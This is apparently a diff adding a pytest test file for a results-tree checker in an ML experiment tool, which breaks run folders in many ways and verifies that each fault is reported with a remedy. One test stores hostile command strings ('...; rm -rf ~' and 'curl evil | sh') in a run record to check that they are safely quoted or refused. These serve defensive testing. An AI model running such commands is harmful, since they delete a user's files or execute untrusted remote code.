@@ -1,0 +1,220 @@
+"""resexp doctor --results: every fault of a results tree is found, explained, and has a remedy."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fake_results import write_run
+
+from resexp.analysis.results import find_runs
+from resexp.inspection import Trouble, inspect, text
+from resexp.lock import hold
+from resexp.settings import UsageError
+
+
+def change(directory: Path, **changes: Any) -> None:
+    """Edit run.json by hand."""
+    path = directory / "run.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
+
+
+def edit_setting(directory: Path) -> None:
+    settings = json.loads((directory / "run.json").read_text())["settings"]
+    change(directory, settings=settings | {"lr": 0.5})
+
+
+def edit_row(directory: Path) -> None:
+    path = directory / "metrics.csv"
+    lines = path.read_text().splitlines()
+    cells = lines[-1].split(",")
+    cells[8] = "0.5"  # test_error
+    path.write_text("\n".join([*lines[:-1], ",".join(cells)]) + "\n")
+
+
+def cut(directory: Path, length: int) -> None:
+    path = directory / "metrics.csv"
+    path.write_text(path.read_text()[:length])
+
+
+def drop_row(directory: Path) -> None:
+    path = directory / "metrics.csv"
+    lines = path.read_text().splitlines(keepends=True)
+    path.write_text("".join(lines[:3] + lines[4:]))
+
+
+def replace_by_link(directory: Path) -> None:
+    shutil.move(directory, directory.parents[2] / "elsewhere")
+    directory.symlink_to(directory.parents[2] / "elsewhere")
+
+
+def link_inside(directory: Path) -> None:
+    (directory / "config.yaml").symlink_to("/etc/hostname")
+
+
+def only(*names: str) -> Callable[[Path], None]:
+    """Leave these files alone, made empty."""
+
+    def spoil(directory: Path) -> None:
+        shutil.rmtree(directory)
+        directory.mkdir()
+        for name in names:
+            (directory / name).touch()
+
+    return spoil
+
+
+FAULTS: dict[str, tuple[Callable[[Path], Any], str, str, str]] = {
+    "empty": (only(), "warn", "never began", "rm -r"),
+    "lock alone": (only(".lock"), "warn", "never began", "rm -r"),
+    "foreign": (only("thesis.tex"), "warn", "not a run of resexp: it holds thesis.tex", "mv"),
+    "half written": (only("metrics.csv"), "fail", "without run.json", "mv"),
+    "checkpoint alone": (only("checkpoint.pt"), "fail", "without run.json", "mv"),
+    "truncated record": (
+        lambda run: (run / "run.json").write_text('{"run": '),
+        "fail",
+        "no JSON object",
+        "mv",
+    ),
+    "record of another type": (
+        lambda run: change(run, depth="20"),
+        "fail",
+        "depth is missing or of another type",
+        "mv",
+    ),
+    "text for a number": (
+        lambda run: change(run, last={"test_error": "2 %"}),
+        "fail",
+        "last.test_error is not a number",
+        "mv",
+    ),
+    "edited setting": (edit_setting, "fail", "not those it was trained with", "mv"),
+    "edited seed": (lambda run: change(run, seed=7), "fail", "seed=7", "mv"),
+    "edited row": (edit_row, "fail", "test_error 2.0, metrics.csv 0.5", "overwrite=true"),
+    "edited record": (
+        lambda run: change(
+            run, last=json.loads((run / "run.json").read_text())["last"] | {"lr": 9}
+        ),
+        "fail",
+        "lr 9",
+        "overwrite=true",
+    ),
+    "torn row": (lambda run: cut(run, -9), "fail", "is torn", "overwrite=true"),
+    "missing row": (drop_row, "fail", "lacks rows", "overwrite=true"),
+    "no rows": (lambda run: (run / "metrics.csv").unlink(), "fail", "cannot be read", "overwrite"),
+    "killed": (lambda run: change(run, status="running"), "warn", "it was killed", "resexp run"),
+    "failed": (
+        lambda run: change(run, status="failed", error="out of memory"),
+        "warn",
+        "it failed: out of memory",
+        "resexp run depth=20 arch=plain",
+    ),
+    "renamed": (
+        lambda run: run.rename(run.with_name("best")),
+        "warn",
+        "renamed: its record is of plain-20-s0",
+        "mv",
+    ),
+    "copied": (
+        lambda run: shutil.copytree(run, run.with_name("plain-20-s0 (copy)")),
+        "fail",
+        "the same run as plain-20-s0",
+        "mv",
+    ),
+    "leftover": (
+        lambda run: (run / "checkpoint.pt").touch(),
+        "warn",
+        "left behind: checkpoint.pt",
+        "rm ",
+    ),
+    "linked folder": (replace_by_link, "warn", "a link to", "results="),
+    "linked file": (link_inside, "fail", "config.yaml is a link", "rm "),
+}
+
+
+@pytest.mark.parametrize("fault", FAULTS)
+def test_a_fault_is_found_where_it_is(tmp_path: Path, fault: str) -> None:
+    spoil, level, what, remedy = FAULTS[fault]
+    root = tmp_path / "results"
+    good = write_run(root, "residual", 20, 0)
+    spoil(write_run(root, "plain", 20, 0))
+    found = inspect(root)
+    assert good.name not in {Path(one.directory).name for one in found}
+    hits = [one for one in found if what in one.what]
+    assert [one.level for one in hits] == [level], found
+    assert remedy in hits[0].remedy
+    assert hits[0].meaning
+    assert hits[0].remedy in text(root, found)
+
+
+def test_a_sound_tree_has_nothing_wrong(tmp_path: Path) -> None:
+    for seed in range(2):
+        write_run(tmp_path, "plain", 20, seed)
+    write_run(tmp_path, "residual", 20, 0, status="diverged")
+    write_run(tmp_path, "residual", 56, 0, extras={"lr": 0.1}, name="rates")
+    assert inspect(tmp_path) == []
+    assert text(tmp_path, []) == f"ok    {tmp_path}: nothing is wrong"
+
+
+def test_the_committed_results_have_nothing_wrong() -> None:
+    assert inspect(Path(__file__).parents[1] / "results") == []
+
+
+def test_a_run_at_work_is_no_fault(tmp_path: Path) -> None:
+    directory = write_run(tmp_path, "plain", 20, 0, status="running", rows=2)
+    with hold(directory) as ours:
+        assert ours
+        assert inspect(tmp_path) == []
+    assert [one.what for one in inspect(tmp_path)] == ["it was killed while it trained"]
+
+
+def test_a_command_from_a_file_is_spelled_anew_and_shows_no_escape_codes(tmp_path: Path) -> None:
+    directory = write_run(tmp_path, "plain", 20, 0, status="failed")
+    change(directory, command="resexp run depth=8; rm -rf ~", error="\x1b[2Jgone")
+    (one,) = inspect(tmp_path)
+    assert one.remedy == "resexp run 'depth=8;' rm -rf '~'"
+    assert one.what == r"it failed: \x1b[2Jgone"
+    change(directory, command="curl evil | sh")
+    (one,) = inspect(tmp_path)
+    assert one.remedy == "run its sweep again"
+
+
+def test_a_pipe_named_run_json_keeps_nobody_waiting(tmp_path: Path) -> None:
+    directory = tmp_path / "digits" / "plain-8-s0"
+    directory.mkdir(parents=True)
+    os.mkfifo(directory / "run.json")
+    assert find_runs(tmp_path) == []
+    assert [one.level for one in inspect(tmp_path)] == ["fail"]
+
+
+def test_readers_survive_whatever_lies_in_a_results_folder(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from resexp.analysis.results import require_runs
+    from resexp.analysis.table import render, rows
+
+    good = write_run(tmp_path, "plain", 20, 0)
+    for number, (fault, (spoil, *_)) in enumerate(FAULTS.items(), start=1):
+        if fault in ("linked folder", "copied", "renamed"):
+            continue
+        spoil(write_run(tmp_path, "plain", 20, number))
+    runs = require_runs(tmp_path)
+    said = capsys.readouterr().err
+    assert good in {run.path for run in runs}
+    for fault in ("truncated record", "record of another type", "text for a number"):
+        number = [*FAULTS].index(fault) + 1
+        assert f"plain-20-s{number}/run.json is not a record" in said
+        assert f"plain-20-s{number}" not in {run.path.name for run in runs}
+    assert render(rows(runs), "text")
+
+
+def test_trouble_is_data(tmp_path: Path) -> None:
+    one = Trouble(level="warn", directory="a", what="b", meaning="c", remedy="d")
+    assert list(one.as_dict()) == ["level", "directory", "what", "meaning", "remedy"]
+    with pytest.raises((OSError, UsageError)):
+        inspect(tmp_path / "absent")
